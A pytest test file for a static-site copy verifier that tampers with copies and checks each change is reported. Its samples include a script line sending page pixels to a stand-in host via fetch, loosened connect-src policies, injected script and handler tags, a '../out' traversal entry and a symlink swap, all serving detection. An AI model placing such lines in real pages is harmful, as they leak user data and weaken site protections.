"""A copy in a folder: what passes, and that every kind of change is named."""

import json
import shutil
import subprocess
from pathlib import Path

import pytest

import webipred
from site_copies import rewrite_sums
from webipred.digests import hash_file
from webipred.errors import FindingsError
from webipred.verify.verification import Pin, Verification, pin_reference, verify_folder

VERIFIER = f"webipred {webipred.__version__}"
PAGE, WORKSPACE = "index.html", "predict/index.html"


def verify(folder: Path, pin: Pin | None = None) -> Verification:
    return verify_folder(folder, VERIFIER, pin) if pin else verify_folder(folder, VERIFIER)


def list_codes(verification: Verification) -> set[str]:
    return {finding.code for finding in verification.findings}


def find_weights(folder: Path) -> str:
    return next(path for path in sorted((folder / "assets").iterdir()) if path.suffix == ".plan").name


def replace(file: Path, old: str, new: str) -> None:
    text = file.read_text(encoding="utf-8")
    assert old in text
    file.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_an_untouched_copy_passes_against_the_site_it_was_copied_from(built: Path, copy: Path) -> None:
    verification = verify(copy, pin_reference(built))
    assert ((), True) == (verification.findings, verification.judge(strict=True))
    assert {"passed"} == {check.outcome for check in verification.checks}


def test_a_copy_is_as_sound_as_its_list_so_an_unpinned_one_is_a_warning(copy: Path) -> None:
    verification = verify(copy)
    assert {"W-VERIFY-UNPINNED"} == list_codes(verification)
    assert (True, False) == (verification.judge(strict=False), verification.judge(strict=True))


def test_one_flipped_bit_in_the_weights_is_named(copy: Path) -> None:
    name = f"assets/{find_weights(copy)}"
    data = bytearray((copy / name).read_bytes())
    data[len(data) // 2] ^= 1
    (copy / name).write_bytes(data)
    assert (name,) == verify(copy).differences.changed


def test_missing_and_extra_files_are_named(copy: Path) -> None:
    (copy / "404.html").unlink()
    (copy / "assets/extra.bin").write_bytes(b"")
    differences = verify(copy).differences
    assert (("404.html",), ("assets/extra.bin",)) == (differences.missing, differences.extra)
    assert {"E-VERIFY-MISSING", "E-VERIFY-EXTRA"} <= list_codes(verify(copy))


def test_a_changed_list_is_seen_only_when_it_is_pinned(built: Path, copy: Path) -> None:
    (copy / "build/report.txt").write_bytes(b"all is well\n")
    rewrite_sums(copy, "build/report.txt")
    pinned = verify(copy, Pin(kind="digest", sha256=hash_file(built / "SHA256SUMS"), source="--digest"))
    assert "E-VERIFY-PIN" in list_codes(pinned)
    assert "E-VERIFY-PIN" not in list_codes(verify(copy))


def test_lists_that_differ_from_each_other_are_named(copy: Path) -> None:
    (copy / "build/report.txt").write_bytes(b"all is well\n")
    rewrite_sums(copy, "build/report.txt")
    findings = [finding for finding in verify(copy).findings if finding.code == "E-VERIFY-MANIFEST"]
    assert ["build/report.txt"] == [finding.where for finding in findings]


@pytest.mark.parametrize(
    ("path", "old", "new", "code"),
    [
        (WORKSPACE, "connect-src 'self'", "connect-src 'self' x.example", "E-VERIFY-POLICY"),
        (WORKSPACE, "connect-src 'none'", "connect-src 'self'", "E-VERIFY-POLICY"),
        (PAGE, "; connect-src &#39;none&#39;", "", "E-VERIFY-POLICY"),
        (PAGE, "default-src &#39;none&#39;", "default-src &#39;self&#39;", "E-EMIT-POLICY"),
        (PAGE, "</main>", "<script>1</script></main>", "E-EMIT-HASH"),
        (PAGE, "</main>", '<img src="https://x.example/a.png"></main>', "E-EMIT-FOREIGN-URL"),
        (PAGE, "</main>", '<a onclick="go()">x</a></main>', "E-EMIT-HANDLER"),
    ],
)
def test_a_page_that_opens_its_policy_is_named_even_if_the_lists_were_made_to_fit(
    copy: Path, path: str, old: str, new: str, code: str
) -> None:
    replace(copy / path, old, new)
    rewrite_sums(copy, path)
    assert code in list_codes(verify(copy))


def test_an_address_of_another_host_in_a_script_is_named(copy: Path) -> None:
    script = next((copy / "assets").glob("*.js"))
    script.write_text("fetch('https://x.example/?' + pixels)", encoding="utf-8")
    assert "E-EMIT-FOREIGN-URL" in list_codes(verify(copy))


def test_a_link_is_named_and_not_followed(copy: Path, tmp_path: Path) -> None:
    shutil.move(copy / "404.html", tmp_path / "elsewhere.html")
    (copy / "404.html").symlink_to(tmp_path / "elsewhere.html")
    verification = verify(copy)
    assert ("E-VERIFY-LINK" in list_codes(verification), ("404.html",)) == (True, verification.differences.unread)


def test_policies_of_another_version_are_not_judged_but_named(copy: Path) -> None:
    replace(copy / "manifest.json", f'"generator":"{VERIFIER}"', '"generator":"webipred 9.9.9"')
    replace(copy / PAGE, "; connect-src &#39;none&#39;", "")
    codes = list_codes(verify(copy))
    assert ("W-VERIFY-VERSION" in codes, "E-VERIFY-POLICY" in codes) == (True, False)


@pytest.mark.parametrize(
    "text", ["", "no digest\n", f"{'a' * 64}  ../out\n", f"{'a' * 64}  a\n{'b' * 64}  a\n", f"{'a' * 64}  SHA256SUMS\n"]
)
def test_a_list_that_cannot_be_one_is_refused(copy: Path, text: str) -> None:
    (copy / "SHA256SUMS").write_text(text, encoding="utf-8")
    with pytest.raises(FindingsError):
        verify(copy)


def test_a_folder_without_a_list_is_refused(tmp_path: Path) -> None:
    with pytest.raises(FindingsError, match=r"no site of webipred.*E-VERIFY-SUMS"):
        verify(tmp_path)


def test_the_manifest_of_a_site_names_what_the_report_names(copy: Path) -> None:
    manifest = json.loads((copy / "manifest.json").read_text(encoding="utf-8"))
    verification = verify(copy)
    assert (manifest["build_id"], manifest["generator"]) == (verification.build_id, verification.generator)


@pytest.mark.skipif(shutil.which("sha256sum") is None, reason="there is no sha256sum on this machine")
def test_sha256sum_agrees_on_a_sound_copy_and_on_a_changed_one(copy: Path) -> None:
    command = ["sha256sum", "--check", "--strict", "--quiet", "SHA256SUMS"]
    assert 0 == subprocess.run(command, cwd=copy, check=False).returncode
    (copy / "index.html").write_bytes(b"")
    assert 1 == subprocess.run(command, cwd=copy, check=False, capture_output=True).returncode
